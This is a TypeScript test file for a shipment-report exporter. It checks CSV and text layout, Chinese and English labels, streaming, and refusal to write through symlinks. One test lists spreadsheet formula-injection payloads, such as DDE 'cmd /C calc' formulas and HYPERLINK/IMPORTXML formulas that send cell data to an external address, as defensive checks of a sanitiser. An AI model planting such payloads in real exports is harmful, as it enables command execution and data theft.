import { mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough, type Writable } from 'node:stream'
import { text as textOf } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { dictionary } from '../../db/dictionary/index.ts'
import { formOf } from '../../src/exchange/forms.ts'
import { defused } from '../../src/exchange/formulas.ts'
import { openOutputFile } from '../../src/exchange/output.ts'
import type { Report } from '../../src/exchange/report.ts'
import { textLines } from '../../src/exchange/write-text.ts'
import { writers } from '../../src/exchange/writers.ts'
import type { Values } from '../../src/kernel/entry.ts'
import { cells } from '../../src/kernel/text.ts'
import { q } from '../support/company.ts'
import { columnsOf } from './report-columns.ts'

async function* each(rows: readonly Values[]) {
  yield* rows
}

const columns = columnsOf(dictionary.shipment, [
  'ship_date',
  'order',
  'name',
  'quantity',
  'price',
  'amount',
])

const report = (rows: readonly Values[], ...totals: Values[]): Report => ({
  title: ['发货报表查询', 'Shipment Inquiry'],
  columns,
  rows: each(rows),
  ...(totals.length > 0 && { totals: async () => totals }),
})

const rows: Values[] = [
  {
    ship_date: '2026-04-01',
    order: 'SO10001',
    name: '北风, "紧固件"',
    quantity: 1234_5000,
    price: 98_0000,
    amount: 120981_00,
  },
  {
    ship_date: null,
    order: 'SO10002',
    name: '=HYPERLINK("x")',
    quantity: -3_0000,
    price: 1_2345,
    amount: -3_70,
  },
]

const written = async (write: (out: Writable) => Promise<void>) => {
  const out = new PassThrough()
  const read = textOf(out)
  await write(out)
  return read
}

test('CSV tells when something was done where the clerk sits, as text and screens do', async () => {
  const at = columnsOf(dictionary.order_history, ['created_at'])
  const one = {
    ...report([]),
    columns: at,
    rows: each([{ created_at: '2026-11-27T23:39:04.289Z' }]),
  }
  expect(await written(out => writers.csv(one, 'en', out))).toBe('Posted At\n2026-11-28 07:39:04\n')
})

test('CSV: labels in the language asked for, numbers plain, dates as they are, formulas defused', async () => {
  const csv = await written(out => writers.csv(report(rows), 'en', out))
  expect(csv.split('\n')[0]).toBe('Ship Date,Order,Name,Qty Shipped,Price,Amount')
  expect(parse(csv).slice(1)).toEqual([
    ['2026-04-01', 'SO10001', '北风, "紧固件"', '1234.5', '98.00', '120981.00'],
    ['', 'SO10002', `'=HYPERLINK("x")`, '-3.0', '1.2345', '-3.70'],
  ])
  const zh = await written(out => writers.csv(report([]), 'zh', out))
  expect(zh).toBe('发货日期,订单,名称,发货数量,价格,金额\n')
})

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '  =1',
  '\t=1',
  '\u200b=1',
  '\ufeff=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  // What OWASP lists besides, and what was used.
  '\n=1',
  '\r=1',
  '\t+1',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|calc!A0',
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("//x/?"&A1,"click")',
  '=IMPORTXML(CONCAT("//x?",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '\u200e=1',
  '\u00a0=1',
  '\u3000＝1',
])('no spreadsheet takes %j for a formula', cell => expect(defused(cell)).toMatch(/^'/))

test.each([
  ['blue;=1+1', "blue;'=1+1"],
  ['blue;  @x;red', "blue;'  @x;red"],
  ['blue; \u200b@x;red', "blue;' \ufffd@x;red"],
  ['a;"=1', `a;'"=1`],
  ["'=1;'+1", "''=1;''+1"],
  ['=1;+1', "'=1;'+1"],
  ['a;b', 'a;b'],
])('nor what comes after a semicolon in %j', (cell, written) => expect(defused(cell)).toBe(written))

test.each(['A-1', '1-2', 'a=b', '订单', ''])('%j is left as it is', cell =>
  expect(defused(cell)).toBe(cell),
)

test('a hundred thousand rows go through a slow reader without being kept', async () => {
  let made = 0
  let ahead = 0
  let read = 0
  const many = async function* () {
    for (made = 1; made <= 100_000; made++) {
      ahead = Math.max(ahead, made - read)
      yield { ...rows[0], number: made } as Values
    }
  }
  const out = new PassThrough()
  const writing = writers.csv({ ...report([]), rows: many() }, 'en', out)
  for await (const chunk of out) read += String(chunk).split('\n').length - 1
  await writing
  expect(read).toBe(100_001)
  expect(ahead).toBeLessThan(10_000)
})

test('text: 80 cells, columns that do not fit go on below, totals and the last line', async () => {
  const lines: string[] = []
  const sums = { quantity: 1231_5000, amount: 120977_30 }
  for await (const line of textLines(report([rows[0]!], sums), 'zh')) lines.push(line)
  expect(lines.every(line => cells(line) <= 80)).toBe(true)
  expect(lines).toMatchInlineSnapshot(`
    [
      "                                  发货报表查询",
      "",
      "发货日期   订单     名称                                         数量",
      "          价格            金额",
      "---------- -------- ------------------------------------ ------------",
      "-------------- ---------------",
      "2026-04-01 SO10001  北风, "紧固件"                            1,234.5",
      "         98.00      120,981.00",
      "",
      "                                                          合计 发货数量: 1,231.5",
      "                                                           合计 金额: 120,977.30",
      "",
      "                                    报表结束",
    ]
  `)
})

test('text: no figure is hidden, and what gives way to it follows below its row', async () => {
  const narrow = [
    { name: 'item', ...dictionary.shipment.item, width: 11 },
    { name: 'quantity', ...dictionary.shipment.quantity, width: 7 },
    { name: 'price', ...dictionary.shipment.price, width: 8 },
  ]
  const all = [
    { item: 'A-1', quantity: q(3), price: q(95) },
    { item: 'A-1', quantity: q(150_000), price: q(1_234_567.89) },
    { item: 'ABCDEFGHIJKLMNOPQR', quantity: q(150_000.5), price: q(1_234_567.8912) },
  ]
  const lines: string[] = []
  const asked = { ...report([]), columns: narrow, rows: each(all) }
  for await (const line of textLines(asked, 'en', 28)) lines.push(line)
  expect(lines.slice(2, -2)).toMatchInlineSnapshot(`
    [
      "Item            Qty    Price",
      "----------- ------- --------",
      "A-1             3.0    95.00",
      "A-1   150,000.0 1,234,567.89",
      "ABC…QR 150000.5 1234567.8912",
      "    Item Number:",
      "    ABCDEFGHIJKLMNOPQR",
    ]
  `)
  expect(lines.every(line => cells(line) <= 28)).toBe(true)
})

test('text: each currency has a total of its own', async () => {
  const sums = [{ amount: 123_45 }, { amount: 67_89 }]
  const lines: string[] = []
  for await (const line of textLines(report([], ...sums), 'en')) lines.push(line.trim())
  expect(lines.filter(line => line.startsWith('Total'))).toEqual([
    'Total Amount: 123.45',
    'Total Amount: 67.89',
  ])
})

test('a file is written as its name says', () => {
  expect(formOf('ship.CSV')).toBe('csv')
  expect(formOf('ship.txt')).toBe('text')
  expect(formOf('so.pdf')).toBe('pdf')
  expect(formOf('.pdfx')).toBe('text')
})

let directory: string
beforeEach(async () => {
  directory = await mkdtemp(join(tmpdir(), 'dingdan-output-'))
})
afterEach(() => rm(directory, { recursive: true }))

test('nothing is written through a link, over a file, or where there is no directory', async () => {
  await writeFile(join(directory, 'old'), 'kept')
  await symlink(join(directory, 'elsewhere'), join(directory, 'link'))
  for (const path of ['old', 'link', 'none/x']) {
    expect(await openOutputFile(join(directory, path))).toMatchObject({
      ok: false,
      refusal: { message: { number: 96 } },
    })
  }
  expect(await readFile(join(directory, 'old'), 'utf8')).toBe('kept')
})
